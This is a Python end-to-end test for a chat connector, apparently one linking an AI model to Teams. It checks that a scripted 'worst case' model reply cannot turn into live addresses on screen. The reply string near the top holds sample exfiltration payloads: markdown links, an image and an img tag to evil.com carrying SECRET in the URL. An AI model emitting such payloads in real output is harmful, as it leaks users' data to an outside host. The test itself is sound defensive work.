"""A model that does its worst: nothing it writes becomes an address on anybody's screen, while it streams or after."""

from pathlib import Path

from infra.local.connector_state import connector_state
from infra.local.vendors.script import Reply, View
from tests.conftest import fresh_world
from tests.e2e.parley import parley_running

WIKI = "wiki.tidewell.example"
WORST = (
    "# The price\n\nIt is [27,400 EUR](https://evil.com/?q=SECRET) ![x](https://evil.com/SECRET.png) "
    "<img src=//evil.com/SECRET> <at>Sofia</at> https://evil.com/SECRET and SECRET.evil.com, see [the wiki]"
    f"(https://{WIKI}/tools?q=SECRET#SECRET) and [the file][f].\n\n[f]: https://evil.com/SECRET\n\n"
    "|Tool|Price|\n|-|-|\n|Casting|27,400|\n\n- [x] done"
)  # fmt: skip


def worst(view: View) -> Reply:
    found = next(block.id for block in view.blocks if "27,400" in block.text)
    return Reply(text=f"{WORST} [{found}]")


async def test_what_a_model_writes_brings_no_address_out(tmp_path: Path) -> None:
    async with parley_running(fresh_world(), tmp_path, door="claude", link_hosts=WIKI) as parley:
        await parley.sign_in("sofia")
        since = len(parley.world.record)
        parley.world.state["script"] = [worst]
        seen = await parley.ask("sofia", "What does the casting tool from Brenta cost?")
        assert f"[the wiki](https://{WIKI}/tools)" in seen.text
        assert "evil[.]com/…" in seen.text
        assert "**The price**" in seen.text
        assert "```\nTool      Price\n" in seen.text
        assert "☑ done" in seen.text
        written = "".join(str(body.get("text", "")) for body in parley.sent_to_teams(since))
        assert not [sign for sign in ("evil.com", "://evil", "?q=", "<img", "<at>", "![") if sign in written]
        assert [citation["name"] for citation in seen.citations]
        assert connector_state(parley.world).violations == []
